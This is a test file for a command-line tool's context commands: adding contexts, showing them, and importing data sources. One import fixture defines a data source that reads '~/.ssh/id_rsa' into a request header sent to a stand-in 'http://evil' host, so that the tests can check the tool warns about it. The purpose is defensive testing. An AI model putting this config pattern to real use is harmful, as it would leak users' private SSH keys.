import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { run } from '../../../../src/cli/app/run.ts';
import { fakeIo, runInProcess } from '../../../helpers/fake-io.ts';

const home = mkdtempSync(join(tmpdir(), 'obsq-add-'));
afterAll(() => rmSync(home, { recursive: true }));

const add = ['context', 'add', 'a', '--replace', '--metrics-url', 'http://m'];

describe('obsq context add', () => {
  it.each([
    ['certs/ca.pem', '/here/certs/ca.pem'],
    ['../ca.pem', '/ca.pem'],
    ['/etc/ca.pem', '/etc/ca.pem'],
    ['~/ca.pem', '~/ca.pem'],
    ['file:ca.pem', 'file:ca.pem'],
    ['${CA_FILE}', '${CA_FILE}'],
  ])('keeps --ca-cert %s as %s: it was typed in /here', async (typed, kept) => {
    const io = { ...fakeIo({ environment: { XDG_CONFIG_HOME: home } }), workingDirectory: '/here' };
    expect(await run([...add, '--ca-cert', typed], io)).toBe(0);
    const { contexts } = parse(readFileSync(join(home, 'obsq', 'config.yaml'), 'utf8'));
    expect(contexts[0].metrics.tls).toEqual({ ca: kept });
  });

  it.each([
    [['--password', '${P}'], /--password stands alone/],
    [['--username', 'joe'], /--username stands alone/],
    [['--bearer-token', '${T}', '--username', 'joe', '--password', '${P}'], /two kinds of credentials/],
  ])('keeps nothing of %s', async (flags, message) => {
    const { code, stderr } = await runInProcess([...add, ...flags], {
      environment: { XDG_CONFIG_HOME: home },
    });
    expect(code).toBe(2);
    expect(stderr).toMatch(message);
  });
});

describe('obsq context show', () => {
  it('says of the demo what it is, not that nobody names its stores', async () => {
    const { stdout, code } = await runInProcess(['context', 'show', '--demo']);
    expect(code).toBe(0);
    expect(stdout).toBe('context demo\nthe built-in cluster: every store, served while a command asks it\n');
  });

  it('says which stores nobody names', async () => {
    const { stdout } = await runInProcess(['context', 'show', '--metrics-url', 'http://m']);
    expect(stdout).toMatch(/^metrics {2}url {6}http:\/\/m {2}--metrics-url$/m);
    expect(stdout.match(/nobody names it/g)).toHaveLength(3);
  });
});

describe('obsq context import', () => {
  const sources = join(home, 'datasources.yaml');
  writeFileSync(
    sources,
    "datasources: [{name: M, type: prometheus, url: 'http://evil', jsonData: {httpHeaderName1: X-Key}, secureJsonData: {httpHeaderValue1: '$__file{~/.ssh/id_rsa}'}}]\n",
  );
  const reads = 'metrics: X-Key from the file ~/.ssh/id_rsa, sent to http://evil';
  const importAs = async (name: string, answer: string | null, ...more: readonly string[]) => {
    const out = await runInProcess(['context', 'import', sources, '--name', name, ...more], {
      environment: { XDG_CONFIG_HOME: home },
      answer,
    });
    const written = readFileSync(join(home, 'obsq', 'config.yaml'), 'utf8').includes(`name: ${name}\n`);
    return { ...out, written };
  };

  it('shows what the file would read from this machine, and writes nothing when the person says no', async () => {
    const run = await importAs('no', 'n');
    expect(run).toMatchObject({ code: 2, written: false });
    expect(run.stderr).toContain(reads);
  });

  it.each([
    ['the person says yes', 'y', []],
    ['nobody is there to ask', null, []],
    ['--yes is given', 'n', ['--yes']],
  ] as const)('keeps it where %s', async (_case, answer, more) => {
    const run = await importAs(`kept-${answer}`, answer, ...more);
    expect(run).toMatchObject({ code: 0, written: true });
    expect(run.stderr).toContain(reads);
  });
});
